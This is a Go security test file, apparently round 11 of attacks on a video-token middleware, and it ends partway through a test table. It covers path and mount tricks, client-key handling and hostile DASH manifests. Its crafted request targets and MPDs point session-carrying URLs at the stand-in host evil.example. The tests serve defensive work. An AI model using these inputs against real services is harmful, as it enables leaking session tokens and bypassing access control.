package privatevideo_test

// Round 11: the mount learned from the request (mount.go), WithClientKey
// and the DASH rewriting wired into the middleware, attacked from the
// client's and from a hostile origin's side. Tests named TestAttack…Finding
// failed on the code they were written against (a1bf35d); TestAttack…Holds
// document what held.

import (
	"bytes"
	"compress/gzip"
	"encoding/hex"
	"encoding/xml"
	"fmt"
	"io"
	"log"
	"net/http"
	"net/http/httptest"
	"net/http/httputil"
	"net/netip"
	"net/url"
	"os"
	"path"
	"path/filepath"
	"regexp"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/privatevideo/privatevideo"
	"github.com/privatevideo/privatevideo/store"
)

// ---------------------------------------------------------------------------
// Mounts

// FINDING (fixed): http.StripPrefix("/media/", …), with the trailing slash,
// is as common as without it. It hands the middleware a path without its
// leading slash ("vod/v1/seg0"), which was not under the prefix as Go reads
// it, so it passed to the handler untouched; http.FileServer (and
// httputil.ReverseProxy) read it as "/vod/v1/seg0" and served the private
// file to anyone, without a token, and the token path went to the origin
// as it came. The middleware now reads such a path as those handlers do,
// under the mount "/media".
func TestAttackStripPrefixWithSlashServesPrivateFilesFinding(t *testing.T) {
	dir := t.TempDir()
	for _, name := range []string{"vod/v1/seg0", "vod/v1/hls/720p/seg1", "vod/v1/poster"} {
		file := filepath.Join(dir, filepath.FromSlash(name))
		if err := os.MkdirAll(filepath.Dir(file), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(file, []byte("PRIVATE BYTES"), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	var originSaw sync.Map
	origin := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		originSaw.Store(r.URL.Path, true)
		http.FileServer(http.Dir(dir)).ServeHTTP(w, r)
	}))
	t.Cleanup(origin.Close)
	originURL, _ := url.Parse(origin.URL)
	for _, media := range []struct {
		name string
		h    http.Handler
	}{
		{"http.FileServer", http.FileServer(http.Dir(dir))},
		{"httputil.ReverseProxy", httputil.NewSingleHostReverseProxy(originURL)},
	} {
		f := newFixture(t, privatevideo.WithGrace(0), privatevideo.WithRetryWindow(0))
		srv := httptest.NewServer(http.StripPrefix("/media/", f.mw.Handler(media.h)))
		t.Cleanup(srv.Close)
		f.srv = srv
		tok := f.issue("v1")
		for _, p := range []string{
			"/media/vod/v1/seg0",
			"/media/vod/v1/hls/720p/seg1",
			"/media/vod/v1/poster",
			"/media/VOD/v1/poster",
		} {
			res := f.get(f.player("anyone"), p)
			if strings.Contains(res.body, "PRIVATE BYTES") {
				t.Errorf("%s, %s: %d, the private file reached a client without a session", media.name, p, res.status)
			}
		}
		// The token's own path redeems it, under the mount, as it does
		// behind StripPrefix("/media").
		res := f.get(f.player("anyone"), "/media/vod/v1/token/"+tok+"/seg0")
		if res.status != http.StatusOK || !strings.Contains(res.body, "PRIVATE BYTES") ||
			!strings.Contains(res.header.Get("Set-Cookie"), "; Path=/media/vod/v1/token/"+tok+";") {
			t.Errorf("%s: the token's path: %d %q Set-Cookie %q, want the file, with the cookie under /media",
				media.name, res.status, res.body, res.header.Get("Set-Cookie"))
		}
		originSaw.Range(func(k, _ any) bool {
			if strings.Contains(k.(string), tok) {
				t.Errorf("%s: the origin was sent the private token: %s", media.name, k)
			}
			return true
		})
	}
}

// Under chi's Mount (or a chi Route with Use), a chi router as the wrapped
// handler routes on chi's own RoutePath, which the middleware cannot
// rewrite: see e2e/attack11_test.go.

// A client cannot move the mount with the spellings of its request line:
// what it adds, removes or escapes is refused or changes nothing, and the
// cookie's Path always ends in the token's own subtree.
func TestAttackMountSpellingsHold(t *testing.T) {
	f := mountedFixture(t, stripApp)
	for _, c := range []struct {
		target string
		want   int // 0: any refusal (4xx)
	}{
		{"/app/app" + tokenPath("v1", "%s", "a.ts"), 0},
		{"/app//vod/v1/token/%s/a.ts", 0},
		{"/app/./vod/v1/token/%s/a.ts", 0},
		{"/app/x/../vod/v1/token/%s/a.ts", 0},
		{"/app%2Fvod/v1/token/%s/a.ts", 0},
		{"/ap%70/vod/v1/token/%s/a.ts", 0},
		{"/APP/vod/v1/token/%s/a.ts", 0},
		{"/app/%2Fvod/v1/token/%s/a.ts", 0},
		{"/app/vod%2Fv1/token/%s/a.ts", 0},
		{"http://evil.example/app/vod/v1/token/%s/a.ts", http.StatusOK}, // absolute form: the host is not the mount
		{"HTTP://x/app/vod/v1/token/%s/a.ts", http.StatusOK},
	} {
		tok := f.issue("v1")
		target := strings.Replace(c.target, "%s", tok, 1)
		status, h, body := rawRequest(t, f.srv.URL, http.MethodGet, target)
		switch {
		case c.want == 0 && (status < 400 || status >= 500):
			t.Errorf("%s: %d %q, want a refusal", target, status, body)
		case c.want == 0 && f.state(tok) != store.Issued:
			t.Errorf("%s: refused, but the token is spent", target)
		case c.want != 0 && status != c.want:
			t.Errorf("%s: %d, want %d", target, status, c.want)
		}
		if sc := h.Get("Set-Cookie"); sc != "" && !strings.Contains(sc, "; Path=/app/vod/v1/token/"+tok+";") {
			t.Errorf("%s: Set-Cookie %q, want it under /app, in the token's subtree", target, sc)
		}
		if status == http.StatusOK && !bytes.Contains(body, []byte("path=/vod/v1/a.ts ")) {
			t.Errorf("%s: the handler saw %q, want the public path", target, body)
		}
	}
}

// A handler in front that changes the path in other ways than taking a
// prefix off (lower-casing, adding a prefix, cleaning) tells no mount; what
// the middleware then builds stays in the token's subtree.
func TestAttackPathRewritingInFrontHolds(t *testing.T) {
	for _, c := range []struct {
		name   string
		wrap   func(h http.Handler) http.Handler
		target string
		cookie string // the Set-Cookie Path wanted, after the token
		status int
	}{
		{"prefix added", func(h http.Handler) http.Handler {
			return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
				r.URL.Path = "/vod" + r.URL.Path
				h.ServeHTTP(w, r)
			})
		}, "/v1/token/%s/a.ts", "/vod/v1/token/%s", http.StatusOK},
		{"rewritten to a suffix", func(h http.Handler) http.Handler {
			return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
				r.URL.Path = strings.Replace(r.URL.Path, "/legacy/vod/", "/vod/", 1)
				h.ServeHTTP(w, r)
			})
		}, "/legacy/vod/v1/token/%s/a.ts", "/legacy/vod/v1/token/%s", http.StatusOK},
		{"path cleaned in front", func(h http.Handler) http.Handler {
			return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
				r.URL.Path = path.Clean(r.URL.Path)
				h.ServeHTTP(w, r)
			})
		}, "/vod/v1/xx/../token/%s/a.ts", "/vod/v1/token/%s", http.StatusOK},
		{"path cleaned, RawPath stale", func(h http.Handler) http.Handler {
			return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
				r.URL.Path = strings.TrimPrefix(r.URL.Path, "/m")
				h.ServeHTTP(w, r)
			})
		}, "/m/vod/v1/token/%s/%61.ts", "", http.StatusBadRequest},
	} {
		t.Run(c.name, func(t *testing.T) {
			f := mountedFixture(t, c.wrap)
			tok := f.issue("v1")
			target := strings.ReplaceAll(c.target, "%s", tok)
			status, h, body := rawRequest(t, f.srv.URL, http.MethodGet, target)
			if status != c.status {
				t.Fatalf("%d %q, want %d", status, body, c.status)
			}
			if c.cookie != "" && !strings.Contains(h.Get("Set-Cookie"), "; Path="+strings.ReplaceAll(c.cookie, "%s", tok)+";") {
				t.Fatalf("Set-Cookie %q, want Path=%s", h.Get("Set-Cookie"), c.cookie)
			}
		})
	}
}

// ServeMux patterns of every kind, and path values with odd bytes: a mount
// the middleware builds into URLs is in the asset grammar, or the request
// is refused before the store; the handler sees the public path under it.
func TestAttackServeMuxPatternsHold(t *testing.T) {
	for _, c := range []struct {
		pattern, target string
		status          int    // 0: any refusal
		seen            string // the handler's path, for 200
	}{
		{"127.0.0.1/media/", "/media" + tokenPath("v1", "%s", "a.ts"), http.StatusOK, "/media/vod/v1/a.ts"},
		{"GET /media/", "/media" + tokenPath("v1", "%s", "a.ts"), http.StatusOK, "/media/vod/v1/a.ts"},
		{"/media/{rest...}", "/media" + tokenPath("v1", "%s", "a.ts"), http.StatusOK, "/media/vod/v1/a.ts"},
		{"/t/{tenant}/", "/t/a%2Fb" + tokenPath("v1", "%s", "a.ts"), 0, ""},
		{"/t/{tenant}/", "/t/%2E%2E" + tokenPath("v1", "%s", "a.ts"), 0, ""},
		{"/t/{tenant}/", "/t/a%00" + tokenPath("v1", "%s", "a.ts"), 0, ""},
		{"/t/{tenant}/", "/t/a%3F" + tokenPath("v1", "%s", "a.ts"), 0, ""},
		{"/t/{tenant}/", "/t/%C3%A9" + tokenPath("v1", "%s", "a.ts"), 0, ""},
		{"/t/{tenant}/", "/t/a." + tokenPath("v1", "%s", "a.ts"), 0, ""},
		{"/t/{tenant}/", "/t/Tok%65n" + tokenPath("v1", "%s", "a.ts"), 0, ""},
		{"/t/{tenant}/", "/t/Token" + tokenPath("v1", "%s", "a.ts"), http.StatusOK, "/t/Token/vod/v1/a.ts"},
		{"/t/{tenant}/", "/t/vod" + tokenPath("v1", "%s", "a.ts"), http.StatusOK, "/t/vod/vod/v1/a.ts"},
		{"/t/{a}/{b}/", "/t/x/y" + tokenPath("v1", "%s", "a.ts"), http.StatusOK, "/t/x/y/vod/v1/a.ts"},
		// The escapes of a routed mount shift RawPath against Path: the
		// mount must be cut off RawPath as written, or RawPath's tail names
		// another video ("/vod/vod/v1/…" here).
		{"/{x}/vod/", "/%61%61/vod" + tokenPath("v1", "%s", "a.ts"), http.StatusBadRequest, ""},
		{"/t/x{a}/", "/t/xy" + tokenPath("v1", "%s", "a.ts"), 0, ""}, // Go refuses such patterns; kept for chi's sake
	} {
		t.Run(c.pattern+" "+c.target, func(t *testing.T) {
			f := newFixture(t, privatevideo.WithGrace(0), privatevideo.WithRetryWindow(0))
			mux := http.NewServeMux()
			func() {
				defer func() { recover() }() // a pattern Go refuses
				mux.Handle(c.pattern, f.mw.Handler(mediaHandler()))
			}()
			srv := httptest.NewServer(mux)
			t.Cleanup(srv.Close)
			tok := f.issue("v1")
			target := strings.Replace(c.target, "%s", tok, 1)
			status, h, body := rawRequest(t, srv.URL, http.MethodGet, target)
			if c.pattern == "/t/x{a}/" && status == http.StatusNotFound {
				return // not registered
			}
			switch {
			case c.status == 0 && status == http.StatusOK:
				t.Fatalf("%d %q, want a refusal", status, body)
			case c.status != 0 && status != c.status:
				t.Fatalf("%d %q, want %d", status, body, c.status)
			}
			if c.status != http.StatusOK {
				if f.state(tok) != store.Issued {
					t.Fatalf("refused, yet the token is spent")
				}
				return
			}
			if c.seen != "" && !bytes.Contains(body, []byte("path="+c.seen+" ")) {
				t.Fatalf("the handler saw %q, want %s", body, c.seen)
			}
			if sc := h.Get("Set-Cookie"); c.seen != "" && !strings.Contains(sc, "/vod/v1/token/"+tok+";") {
				t.Fatalf("Set-Cookie %q outside the token's subtree", sc)
			}
		})
	}
}

// OPTIONS *, GET *, and requests built in-process without a RequestURI
// (as a test or an in-process proxy makes them) never panic and never
// make up a mount.
func TestAttackOddRequestTargetsHold(t *testing.T) {
	f := mountedFixture(t, stripApp)
	root := mountedFixture(t, func(h http.Handler) http.Handler { return h })
	for _, srv := range []string{f.srv.URL, root.srv.URL} {
		for _, target := range []string{"*", "http://x", "http://x?y=/vod/v1/a.ts", "//x/app/vod/v1/a.ts", "http://x//vod/v1/a.ts"} {
			for _, method := range []string{http.MethodOptions, http.MethodGet} {
				status, h, body := rawRequest(t, srv, method, target)
				if status >= 500 || h.Get("Set-Cookie") != "" || bytes.Contains(body, []byte("session=true")) {
					t.Errorf("%s %s: %d %q", method, target, status, body)
				}
			}
		}
	}
	tok := f.issue("v1")
	h := http.StripPrefix("/app", f.mw.Handler(mediaHandler()))
	req := httptest.NewRequest(http.MethodGet, "/app"+tokenPath("v1", tok, "a.ts"), nil)
	req.RequestURI = "" // as http.NewRequest leaves it
	rec := httptest.NewRecorder()
	h.ServeHTTP(rec, req)
	if rec.Code != http.StatusOK || strings.Contains(rec.Header().Get("Set-Cookie"), "Path=/app/app") {
		t.Fatalf("in-process request: %d %q", rec.Code, rec.Header().Get("Set-Cookie"))
	}
}

// Over HTTP/2 the request target is the :path pseudo-header, which Go puts
// in RequestURI as HTTP/1 does: the stripped mount is learned the same way.
func TestAttackMountOverHTTP2Holds(t *testing.T) {
	f := newFixture(t, privatevideo.WithGrace(0), privatevideo.WithRetryWindow(0))
	srv := httptest.NewUnstartedServer(stripApp(f.mw.Handler(mediaHandler())))
	srv.EnableHTTP2 = true
	srv.StartTLS()
	t.Cleanup(srv.Close)
	tok := f.issue("v1")
	c := srv.Client()
	c.CheckRedirect = func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }
	for _, c2 := range []struct{ path, want string }{
		{"/app/vod/v1/a.ts?token=" + tok, "Location: /app" + tokenPath("v1", tok, "a.ts")},
		{"/app" + tokenPath("v1", tok, "a.ts"), "Path=/app/vod/v1/token/" + tok + ";"},
	} {
		resp, err := c.Get(srv.URL + c2.path)
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		if resp.ProtoMajor != 2 {
			t.Fatalf("%s over HTTP/%d", c2.path, resp.ProtoMajor)
		}
		got := "Location: " + resp.Header.Get("Location")
		if strings.HasPrefix(c2.want, "Path=") {
			got = resp.Header.Get("Set-Cookie")
		}
		if !strings.Contains(got, c2.want) {
			t.Errorf("%s: %d %q, want %q", c2.path, resp.StatusCode, got, c2.want)
		}
	}
}

// ---------------------------------------------------------------------------
// WithClientKey

// Keys the application derives from what a client sends: an empty key
// shares nothing (not even with itself), a huge key or one with NULs is
// just a key, and the retry window after a late redemption obeys it too.
func TestAttackClientKeysHold(t *testing.T) {
	// net/http refuses NULs in header values: keys come in hexadecimal.
	key := func(r *http.Request, _ netip.Addr) string {
		b, _ := hex.DecodeString(r.Header.Get("X-Device"))
		return string(b)
	}
	f := newFixture(t, privatevideo.WithClientKey(key))
	huge := strings.Repeat("k", 200<<10)
	for _, c := range []struct {
		name        string
		first, next string
		in          bool
	}{
		{"empty key", "", "", false},
		{"the same huge key", huge, huge, true},
		{"a huge key and its prefix", huge, huge[:len(huge)-1], false},
		{"NUL inside", "a\x00b", "a\x00b", true},
		{"NUL moved", "a\x00b", "a\x00\x00b", false},
		{"keys that differ in case", "Dev", "dev", false},
	} {
		tok := f.issue("v1")
		p := tokenPath("v1", tok, "a.ts")
		wantOK(t, c.name+": first", f.get(f.player("a"), p, "X-Device", hex.EncodeToString([]byte(c.first))))
		res := f.get(f.player("b"), p, "X-Device", hex.EncodeToString([]byte(c.next)))
		if got := res.status == http.StatusOK; got != c.in {
			t.Errorf("%s: second request %d %q, want in=%t", c.name, res.status, res.reason, c.in)
		}
	}
}

// A key function that panics is the application's bug: the request fails
// with 500 through net/http's recovery, and the token is not spent.
func TestAttackClientKeyPanicsSpendsNothingHolds(t *testing.T) {
	f := newFixture(t, privatevideo.WithClientKey(func(*http.Request, netip.Addr) string { panic("app bug") }))
	srv := httptest.NewUnstartedServer(f.mw.Handler(mediaHandler()))
	srv.Config.ErrorLog = log.New(io.Discard, "", 0)
	srv.Start()
	t.Cleanup(srv.Close)
	tok := f.issue("v1")
	if resp, err := http.Get(srv.URL + tokenPath("v1", tok, "a.ts")); err == nil {
		resp.Body.Close()
		t.Fatalf("%d, want the connection closed by net/http's recovery", resp.StatusCode)
	}
	if st := f.state(tok); st != store.Issued {
		t.Fatalf("token %v after the key function panicked, want issued", st)
	}
}

// The retry window and the late-redemption watcher follow the key too: a
// redemption that ran late in a stalled store lets in the same key (under
// another User-Agent) and nobody else, and the watcher then leaves that
// session alone; with an empty key nobody re-enters, and the watcher gives
// the link back so that the viewer's retry redeems it afresh.
func TestAttackClientKeyRetryAndLateHolds(t *testing.T) {
	key := func(r *http.Request, _ netip.Addr) string { return r.Header.Get("X-Device") }
	for _, c := range []struct {
		name string
		dev  string
	}{{"a key", "dev-1"}, {"an empty key", ""}} {
		t.Run(c.name, func(t *testing.T) {
			ls := &lateStore{Store: store.NewMemory(0), resume: make(chan struct{}), ran: make(chan error, 1)}
			rf := newReleaseFixtureServer(t, mediaHandler(), ls, nil, false,
				privatevideo.WithStoreTimeout(100*time.Millisecond), privatevideo.WithClientKey(key))
			tok := rf.issue("v1")
			p := tokenPath("v1", tok, "a.ts")
			wantDenied(t, "during the stall", rf.get(viewer("one"), p, "X-Device", c.dev), http.StatusServiceUnavailable, "store-unavailable")
			close(ls.resume)
			if err := <-ls.ran; err != nil {
				t.Fatalf("the late redemption: %v", err)
			}
			if c.dev != "" {
				wantDenied(t, "another key", rf.get(viewer("one"), p, "X-Device", "dev-2"), http.StatusForbidden, "token-used")
				wantOK(t, "the same key, another User-Agent", rf.get(viewer("two"), p, "X-Device", c.dev))
				time.Sleep(2 * time.Second) // the watcher's first look
				if st := rf.state(tok); st != store.Redeemed {
					t.Fatalf("the watcher undid a session in use: token %v", st)
				}
				return
			}
			var res result
			for deadline := time.Now().Add(10 * time.Second); time.Now().Before(deadline); time.Sleep(250 * time.Millisecond) {
				if res = rf.get(viewer("one"), p); res.status == http.StatusOK {
					return
				}
			}
			t.Fatalf("the viewer's retry: %d %q; the late redemption was never given back (token %v)", res.status, res.reason, rf.state(tok))
		})
	}
}

// ---------------------------------------------------------------------------
// DASH through the middleware, from a hostile origin

// originMPDs serves, for /vod/v1/dash/{name}, what the test put there.
type originMPDs struct {
	mu    sync.Mutex
	serve map[string]http.HandlerFunc
	seen  []string // request lines, with Range and Accept-Encoding
}

func (o *originMPDs) set(name string, h http.HandlerFunc) {
	o.mu.Lock()
	o.serve[name] = h
	o.mu.Unlock()
}

func (o *originMPDs) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	o.mu.Lock()
	h := o.serve[strings.TrimPrefix(r.URL.Path, "/vod/v1/dash/")]
	o.seen = append(o.seen, fmt.Sprintf("%s %s range=%q ae=%q", r.Method, r.URL.RequestURI(), r.Header.Get("Range"), r.Header.Get("Accept-Encoding")))
	o.mu.Unlock()
	if h == nil {
		http.NotFound(w, r)
		return
	}
	h(w, r)
}

func mpdFixture(t *testing.T) (*fixture, *originMPDs) {
	t.Helper()
	f := newFixture(t)
	o := &originMPDs{serve: map[string]http.HandlerFunc{}}
	srv := httptest.NewServer(f.mw.Handler(o))
	t.Cleanup(srv.Close)
	f.srv = srv
	return f, o
}

func staticMPD(ct, body string) http.HandlerFunc {
	return func(w http.ResponseWriter, r *http.Request) {
		if ct != "" {
			w.Header().Set("Content-Type", ct)
		}
		io.WriteString(w, body)
	}
}

const dashNS = `xmlns="urn:mpeg:dash:schema:mpd:2011" xmlns:xlink="http://www.w3.org/1999/xlink"`

func mpdDoc(inner string) string {
	return `<?xml version="1.0" encoding="UTF-8"?>` + "\n" + `<MPD ` + dashNS + ` type="static" mediaPresentationDuration="PT4S" minBufferTime="PT2S" profiles="urn:mpeg:dash:profile:isoff-live:2011">` +
		inner + `</MPD>` + "\n"
}

func periodOf(inner string) string {
	return `<Period id="p0"><AdaptationSet mimeType="video/mp4">` + inner +
		`<Representation id="r1" bandwidth="1000" codecs="avc1.64001f" width="640" height="360"><SegmentTemplate media="seg-$Number$.m4s" initialization="init.mp4" startNumber="1" duration="2" timescale="1"/></Representation></AdaptationSet></Period>`
}

var avhValue = regexp.MustCompile(`avh=([A-Za-z0-9_-]+)`)

// dashLeaks is the test's referee: every URL of out that carries the
// session must reach our origin (own) through its whole BaseURL chain,
// judged strictly: each alternative of a level, xml:base and the MPD's
// Location elements must be plainly relative or start with own + "/", and
// a level of absolute URLs of ours ends the chain. It also checks that out
// is in plus the session, nothing else.
func dashLeaks(in, out, own string) []string {
	m := avhValue.FindStringSubmatch(out)
	if m == nil {
		if in != out {
			return []string{"changed without a session in it"}
		}
		return nil
	}
	session := m[1]
	plain := strings.ReplaceAll(strings.ReplaceAll(out, "?avh="+session, ""), "&amp;avh="+session, "")
	var problems []string
	if plain != in {
		problems = append(problems, "the MPD changed beyond the session")
	}
	ours := func(s string) bool { return strings.HasPrefix(s, own+"/") }
	relative := func(s string) bool {
		if s == "" || strings.ContainsAny(s, "\\\t\r\n&%<>\"'") || strings.HasPrefix(s, "/") && strings.HasPrefix(s[1:], "/") {
			return false
		}
		colon, slash := strings.IndexByte(s, ':'), strings.IndexAny(s, "/?#")
		return colon < 0 || slash >= 0 && slash < colon
	}
	type level struct{ alts []string }
	type frame struct {
		name   string
		lv     *level
		parent *frame
	}
	type use struct {
		value string
		from  *frame // the innermost level the value resolves against
	}
	var uses []use
	locations := &level{}
	dec := xml.NewDecoder(strings.NewReader(out))
	var cur *frame
	var text strings.Builder
	for {
		tok, err := dec.Token()
		if err == io.EOF {
			break
		}
		if err != nil {
			return append(problems, "the rewritten MPD does not parse: "+err.Error())
		}
		switch tk := tok.(type) {
		case xml.StartElement:
			fr := &frame{name: tk.Name.Local, lv: &level{}, parent: cur}
			for _, a := range tk.Attr {
				if a.Name.Local == "base" && a.Name.Space == "http://www.w3.org/XML/1998/namespace" {
					fr.lv.alts = append(fr.lv.alts, strings.TrimSpace(a.Value))
				}
				if strings.Contains(a.Value, "avh=") {
					uses = append(uses, use{strings.TrimSpace(a.Value), fr})
				}
			}
			cur = fr
			text.Reset()
		case xml.CharData:
			text.Write(tk)
		case xml.EndElement:
			s := strings.TrimSpace(text.String())
			text.Reset()
			switch {
			case cur.name == "BaseURL" && cur.parent != nil:
				cur.parent.lv.alts = append(cur.parent.lv.alts, s)
				if strings.Contains(s, "avh=") {
					uses = append(uses, use{s, cur.parent.parent})
				}
			case cur.name == "Location":
				locations.alts = append(locations.alts, s)
				if strings.Contains(s, "avh=") {
					uses = append(uses, use{s, nil})
				}
			case strings.Contains(s, "avh="):
				problems = append(problems, "session in the text of "+cur.name)
			}
			cur = cur.parent
		}
	}
	for _, u := range uses {
		if ours(u.value) {
			continue
		}
		if !relative(u.value) {
			problems = append(problems, fmt.Sprintf("%q carries the session and is neither relative nor ours", u.value))
			continue
		}
		done := false
		for fr := u.from; fr != nil && !done; fr = fr.parent {
			if len(fr.lv.alts) == 0 {
				continue
			}
			allOurs := true
			for _, a := range fr.lv.alts {
				if !ours(a) {
					allOurs = false
					if !relative(a) {
						problems = append(problems, fmt.Sprintf("%q carries the session through the base %q", u.value, a))
						done = true
						break
					}
				}
			}
			done = done || allOurs
		}
		if !done {
			for _, a := range locations.alts {
				if !ours(a) && !relative(a) {
					problems = append(problems, fmt.Sprintf("%q carries the session through the Location %q", u.value, a))
				}
			}
		}
	}
	return problems
}

// fetchMPD redeems a fresh token with a cookie-less player's first request
// for the MPD name, and returns the answer read whole, or the error of
// reading it.
func fetchMPD(t *testing.T, f *fixture, name string, header ...string) (*http.Response, string, error) {
	t.Helper()
	tok := f.issue("v1")
	req, _ := http.NewRequest(http.MethodGet, f.srv.URL+tokenPath("v1", tok, "dash/"+name), nil)
	for i := 0; i+1 < len(header); i += 2 {
		req.Header.Set(header[i], header[i+1])
	}
	req.Header.Set("User-Agent", "dash-player")
	tr := &http.Transport{DisableCompression: true}
	defer tr.CloseIdleConnections()
	resp, err := (&http.Client{Transport: tr}).Do(req)
	if err != nil {
		return nil, "", err
	}
	defer resp.Body.Close()
	body, err := io.ReadAll(resp.Body)
	return resp, string(body), err
}

// Hostile MPDs through the middleware: the session goes only where a
// player's whole BaseURL chain keeps it on our origin; what cannot be
// judged is refused (502) or passes without the session.
func TestAttackHostileMPDsHold(t *testing.T) {
	f, o := mpdFixture(t)
	own := f.srv.URL
	evil := "https://evil.example"
	const (
		rewritten = "rewritten" // 200, with the session somewhere
		bare      = "bare"      // 200, exactly as the origin sent it
		refused   = "refused"   // 502
		safe      = "safe"      // 200 or 502, the referee decides
	)
	cases := []struct {
		name, ct, body, want string
	}{
		{"plain", "application/dash+xml", mpdDoc(periodOf("")), rewritten},
		{"foreign BaseURL on the MPD", "application/dash+xml", mpdDoc(`<BaseURL>` + evil + `/v1/</BaseURL>` + periodOf("")), bare},
		{"foreign BaseURL below, relative above", "application/dash+xml", mpdDoc(`<BaseURL>dash/</BaseURL><Period><BaseURL>` + evil + `/</BaseURL><AdaptationSet><BaseURL>a/</BaseURL><Representation id="r" bandwidth="1"><SegmentTemplate media="s$Number$.m4s" initialization="i.mp4"/></Representation></AdaptationSet></Period>`), safe},
		{"one foreign alternative", "application/dash+xml", mpdDoc(`<BaseURL>a/</BaseURL><BaseURL>` + evil + `/b/</BaseURL>` + periodOf("")), safe},
		{"ours absolute over foreign", "application/dash+xml", mpdDoc(`<BaseURL>` + evil + `/</BaseURL><Period><BaseURL>` + own + `/vod/v1/dash/</BaseURL><AdaptationSet><Representation id="r" bandwidth="1"><SegmentTemplate media="s$Number$.m4s"/></Representation></AdaptationSet></Period>`), safe},
		{"foreign xml:base", "application/dash+xml", mpdDoc(`<Period xml:base="` + evil + `/"><AdaptationSet><Representation id="r" bandwidth="1"><SegmentTemplate media="s$Number$.m4s"/></Representation></AdaptationSet></Period>`), safe},
		{"foreign Location", "application/dash+xml", mpdDoc(`<Location>` + evil + `/live.mpd</Location>` + periodOf("")), safe},
		{"Location after the Period", "application/dash+xml", mpdDoc(periodOf("") + `<Location>` + evil + `/live.mpd</Location>`), safe},
		{"late foreign BaseURL", "application/dash+xml", mpdDoc(`<Period><AdaptationSet><Representation id="r" bandwidth="1"><SegmentTemplate media="s$Number$.m4s"/></Representation></AdaptationSet><BaseURL>` + evil + `/</BaseURL></Period>`), safe},
		{"foreign xlink", "application/dash+xml", mpdDoc(`<Period xlink:href="` + evil + `/p.xml" xlink:actuate="onLoad"/>` + periodOf("")), safe},
		{"relative xlink", "application/dash+xml", mpdDoc(`<Period xlink:href="p.xml" xlink:actuate="onLoad"/>` + periodOf("")), safe},
		{"entity scheme", "application/dash+xml", mpdDoc(`<BaseURL>https&#58;//evil.example/</BaseURL>` + periodOf("")), safe},
		{"entity slashes", "application/dash+xml", mpdDoc(`<BaseURL>&#x2F;&#x2F;evil.example/</BaseURL>` + periodOf("")), safe},
		{"entity in a template", "application/dash+xml", mpdDoc(`<Period><AdaptationSet><Representation id="r" bandwidth="1"><SegmentTemplate media="&#x2F;/evil.example/$Number$.m4s" initialization="i.mp4"/></Representation></AdaptationSet></Period>`), safe},
		{"CDATA BaseURL", "application/dash+xml", mpdDoc(`<BaseURL><![CDATA[` + evil + `/]]></BaseURL>` + periodOf("")), safe},
		{"comment in a BaseURL", "application/dash+xml", mpdDoc(`<BaseURL>https:/<!-- -->/evil.example/</BaseURL>` + periodOf("")), safe},
		{"userinfo", "application/dash+xml", mpdDoc(`<BaseURL>` + own + `@evil.example/</BaseURL>` + periodOf("")), safe},
		{"backslashes", "application/dash+xml", mpdDoc(`<BaseURL>\\evil.example\</BaseURL>` + periodOf("")), safe},
		{"tab in the scheme", "application/dash+xml", mpdDoc(`<BaseURL>ht&#9;tps://evil.example/</BaseURL>` + periodOf("")), safe},
		{"https: without slashes", "application/dash+xml", mpdDoc(`<BaseURL>https:evil.example/</BaseURL>` + periodOf("")), safe},
		{"$RepresentationID$ as the host", "application/dash+xml", mpdDoc(`<Period><AdaptationSet><SegmentTemplate media="$RepresentationID$/s$Number$.m4s"/><Representation id="//evil.example" bandwidth="1"/></AdaptationSet></Period>`), safe},
		{"$Number$ in the host", "application/dash+xml", mpdDoc(`<Period><AdaptationSet><Representation id="r" bandwidth="1"><SegmentTemplate startNumber="1" media="` + strings.Replace(own, "127.0.0.1", "127.0.0.$Number$", 1) + `/s.m4s"/></Representation></AdaptationSet></Period>`), safe},
		{"$Number$ as the port", "application/dash+xml", mpdDoc(`<Period><AdaptationSet><Representation id="r" bandwidth="1"><SegmentTemplate media="//127.0.0.1:$Number$/s.m4s"/></Representation></AdaptationSet></Period>`), safe},
		{"$Bandwidth$ in the host", "application/dash+xml", mpdDoc(`<Period><AdaptationSet><Representation id="r" bandwidth="1"><SegmentTemplate media="https://h$Bandwidth$.evil.example/s.m4s"/></Representation></AdaptationSet></Period>`), safe},
		{"a width in the host", "application/dash+xml", mpdDoc(`<Period><AdaptationSet><Representation id="r" bandwidth="1"><SegmentTemplate media="` + own + `$Number%05d$/s.m4s"/></Representation></AdaptationSet></Period>`), safe},
		{"$$ before the host", "application/dash+xml", mpdDoc(`<Period><AdaptationSet><Representation id="r" bandwidth="1"><SegmentTemplate media="$$//evil.example/s.m4s"/></Representation></AdaptationSet></Period>`), safe},
		{"$RepresentationID$ glued to our host", "application/dash+xml", mpdDoc(`<Period><AdaptationSet><SegmentTemplate media="` + own + `$RepresentationID$/s.m4s"/><Representation id=".evil.example" bandwidth="1"/></AdaptationSet></Period>`), safe},
		{"namespace prefix", "application/dash+xml", `<d:MPD xmlns:d="urn:mpeg:dash:schema:mpd:2011"><d:BaseURL>` + evil + `/</d:BaseURL><d:Period><d:AdaptationSet><d:Representation id="r" bandwidth="1"><d:SegmentTemplate media="s$Number$.m4s"/></d:Representation></d:AdaptationSet></d:Period></d:MPD>`, safe},
		{"other namespace BaseURL", "application/dash+xml", mpdDoc(`<x:BaseURL xmlns:x="urn:other">` + evil + `/</x:BaseURL>` + periodOf("")), safe},
		// Not sniffed as an MPD (the subset's '>' ends the DOCTYPE early for
		// IsManifest): it passes as it came, without the session.
		{"DOCTYPE entity", "application/dash+xml", `<?xml version="1.0"?><!DOCTYPE MPD [<!ENTITY e "` + evil + `/">]>` + mpdDoc(`<BaseURL>&e;</BaseURL>` + periodOf(""))[len(`<?xml version="1.0" encoding="UTF-8"?>`)+1:], bare},
		{"DOCTYPE attribute default", "application/dash+xml", `<!DOCTYPE MPD [<!ATTLIST Period xml:base CDATA "` + evil + `/">]>` + mpdDoc(periodOf(""))[len(`<?xml version="1.0" encoding="UTF-8"?>`)+1:], safe},
